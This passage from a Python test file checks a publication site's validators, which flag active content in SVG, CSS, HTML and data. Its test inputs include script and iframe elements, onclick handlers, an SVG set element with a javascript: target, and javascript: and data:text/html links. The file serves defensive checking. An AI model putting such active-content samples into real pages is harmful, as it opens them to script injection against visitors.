    '<clipPath id="c"><rect width="4" height="4"/></clipPath></defs>'
    '<title>Chart</title><g clip-path="url(#c)" fill="url(#g)"><path d="M0 0h4v4z"/><use href="#c"/>'
    '<text x="1" y="2" font-size="1">76%</text></g>'
)


@pytest.mark.parametrize(
    "body,found",
    [
        ('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>', "<foreignObject>"),
        ('<use xlink:href="https://example.org/s.svg#a" xmlns:xlink="http://www.w3.org/1999/xlink"/>', "href="),
        ('<rect width="1" height="1" onclick="x()"/>', "the event handler onclick"),
        ('<rect width="1" height="1" style="fill:url(https://example.org/x)"/>', "the attribute style"),
        ('<rect width="1" height="1" fill="url(https://example.org/p.svg#g)"/>', "only url(#part)"),
        ('<set attributeName="href" to="javascript:x"/>', "the element <set>"),
        ('<feImage href="https://example.org/x.png"/>', "the element <feImage>"),
        ('<x:script xmlns:x="http://www.w3.org/1999/xhtml">x()</x:script>', "the element <script>"),
        ('<iframe src="x"/>', "the element <iframe>"),
    ],
)
def test_active_svg_is_a_finding(body, found):
    problems = doors.svg_problems(SVG.format(body).encode())
    assert problems and found in problems[0][1], problems


def test_passive_svg_and_the_favicon_are_no_finding(root):
    assert doors.svg_problems(PASSIVE_SVG.encode()) == []
    assert doors.svg_problems((root / "docs" / "assets" / "favicon.svg").read_bytes()) == []
    assert doors.svg_problems(b'<?xml-stylesheet href="https://example.org/x.css"?>' + PASSIVE_SVG.encode())


def test_css_and_html_assets(root):
    assert doors.css_problems((root / "docs" / "assets" / "publication.css").read_text(encoding="utf-8")) == []
    assert doors.css_problems("a{background:url('//example.org/x.png')}") != []
    assert doors.css_problems("a{background:url(#x)} b{background:url(img/x.png)}") == []
    assert doors.html_problems("<!doctype html><html lang=nl><head><meta charset=utf-8><title>x</title></head>"
                               "<body><p>x</p></body></html>") == []  # fmt: skip
    assert doors.html_problems('<html><body><iframe src="x"></iframe></body></html>') == [(1, '<iframe src="x">')]


# --- data -------------------------------------------------------------------------------------------


def test_honest_data_strings_are_no_finding():
    for key, value in [
        ("title.nl", "Letterlijk „aanpak van daders”; 76% < 80%? Nee: 76 & 10"),
        ("note", "Let op: 12:30 uur"),
        ("links[1].url", "https://www.tweedekamer.nl/x"),
        ("source", "government.nl, topic page “Combating human trafficking”"),
        ("contact", "mailto:info@example.org"),
    ]:
        assert list(doors._string_problems(key, value, {"www.tweedekamer.nl": "x"}, markup=False)) == [], value


def test_site_links_refuse_active_and_plain_http_addresses(tmp_path):
    from publication.checks import links

    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "external-links.yml").write_text("allowed_hosts:\n  www.tweedekamer.nl: x\n", encoding="utf-8")
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "404.html").write_text(
        '<html lang="nl"><body>\n<a href="JavaScript:x()">a</a>\n<a href="http://www.tweedekamer.nl/">b</a>\n'
        '<a href="data:text/html,x">c</a>\n<a href="https://www.tweedekamer.nl/">d</a>\n</body></html>\n',
        encoding="utf-8",
    )
    found = [(f.line, f.found) for f in links.check_site(tmp_path / "site", tmp_path / "data")]
    assert found == [
        (2, "javascript: JavaScript:x()"),
        (3, "http://www.tweedekamer.nl/ (an address with the scheme http: (only https))"),
        (4, "data: data:text/html,x"),
    ]
